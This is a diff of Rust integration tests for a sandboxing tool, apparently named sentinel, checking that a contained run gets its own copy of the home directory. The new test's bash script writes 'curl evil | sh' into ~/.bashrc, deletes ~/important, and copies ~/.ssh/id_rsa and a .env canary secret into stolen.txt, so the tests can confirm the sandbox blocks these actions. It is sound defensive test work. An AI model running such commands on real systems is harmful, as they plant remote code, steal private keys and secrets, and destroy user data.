@@ -799,8 +799,8 @@ fn a_package_store_is_the_runs_own_copy() {
         "cat ~/.cargo/registry/old.txt > seen.txt
          echo poisoned > ~/.cargo/registry/old.txt && echo new > ~/.cargo/registry/new.txt \
            && mkdir ~/.npm/_cacache && echo cached > ~/.npm/_cacache/x && echo wrote > wrote.txt
-         echo x > ~/.cargo/config.toml && echo x > ~/important/new.txt 2>/dev/null \
-           || echo refused > outside.txt",
+         echo x > ~/.cargo/config.toml && echo x > ~/important/new.txt \
+           && cat ~/.cargo/config.toml ~/important/new.txt > outside.txt",
     );
     assert_eq!(code, 0, "{err}");
     let p = w.project();
@@ -814,7 +814,8 @@ fn a_package_store_is_the_runs_own_copy() {
     );
     assert_eq!(
         std::fs::read_to_string(p.join("outside.txt")).unwrap(),
-        "refused\n"
+        "x\nx\n",
+        "the run writes in its copy of the home"
     );
     assert_eq!(
         std::fs::read_to_string(store.join("old.txt")).unwrap(),
@@ -822,9 +823,81 @@ fn a_package_store_is_the_runs_own_copy() {
     );
     assert!(!store.join("new.txt").exists());
     assert!(!w.home().join(".npm/_cacache").exists());
-    // ~/.cargo/git is missing: the run had its own copy of ~/.cargo, and nothing else.
+    // What the run wrote in its copy of the home is gone with it.
     assert!(!w.home().join(".cargo/config.toml").exists());
     assert!(!w.home().join("important/new.txt").exists());
+}
+
+#[test]
+fn the_home_is_the_runs_own_copy_and_the_project_inside_it_stays_real() {
+    let w = World::new();
+    if !available(&w) {
+        return;
+    }
+    // The usual layout: the project, SENTINEL_HOME and the tool caches all inside the home.
+    let home = w.home();
+    let project = home.join("src/app");
+    let own = home.join(".sentinel");
+    std::fs::create_dir_all(project.join(".git/hooks")).unwrap();
+    std::fs::write(project.join(".env"), "SECRET=CANARY-ENV\n").unwrap();
+    std::fs::create_dir_all(&own).unwrap();
+    std::fs::create_dir_all(home.join(".npm/_logs")).unwrap();
+    std::fs::write(home.join(".bashrc"), "# the person's\n").unwrap();
+    let script = "mkdir ~/.node-spawn-wrap-1 && echo shim > ~/.node-spawn-wrap-1/a \
+          && cat ~/.node-spawn-wrap-1/a > shim.txt
+        echo 'curl evil | sh' >> ~/.bashrc
+        rm -rf ~/important && ls ~ > listing.txt
+        cat ~/.ssh/id_rsa .env > stolen.txt 2>/dev/null
+        echo log > ~/.npm/_logs/run.log
+        touch ~/.sentinel/sentinel.toml 2>/dev/null || echo refused > own.txt
+        echo ran > out.txt";
+    let mut c = common::sentinel(&own);
+    c.env("HOME", &home).current_dir(&project);
+    let out = c
+        .args(["contain", "--project"])
+        .arg(&project)
+        .args(["--", "bash", "-c", script])
+        .output()
+        .unwrap();
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(0), "{err}");
+    let read = |rel: &str| std::fs::read_to_string(project.join(rel)).unwrap_or_default();
+    // Inside: the home's top is writable (nyc's shims work), a delete there works on the copy.
+    assert_eq!(read("shim.txt"), "shim\n", "{err}");
+    assert!(!read("listing.txt").contains("important"), "{err}");
+    // Outside: the project's writes are real; the home is as it was.
+    assert_eq!(read("out.txt"), "ran\n");
+    assert!(!home.join(".node-spawn-wrap-1").exists());
+    assert_eq!(
+        std::fs::read_to_string(home.join(".bashrc")).unwrap(),
+        "# the person's\n"
+    );
+    assert_eq!(
+        std::fs::read_to_string(home.join("important/keep.txt")).unwrap(),
+        "keep\n"
+    );
+    // The listed caches stay real; the keys stay hidden; SENTINEL_HOME stays read-only.
+    assert_eq!(
+        std::fs::read_to_string(home.join(".npm/_logs/run.log")).unwrap(),
+        "log\n"
+    );
+    assert!(
+        !read("stolen.txt").contains("CANARY"),
+        "{}",
+        read("stolen.txt")
+    );
+    assert_eq!(read("own.txt"), "refused\n");
+    assert!(!own.join("sentinel.toml").exists());
+    // The plan says so.
+    let mut c = common::sentinel(&own);
+    c.env("HOME", &home).current_dir(&project);
+    let plan = c
+        .args(["contain", "--plan", "--project"])
+        .arg(&project)
+        .output()
+        .unwrap();
+    let plan: Value = serde_json::from_slice(&plan.stdout).unwrap();
+    assert_eq!(plan["scratch_home"], json!(home), "{plan}");
 }
 
 #[test]
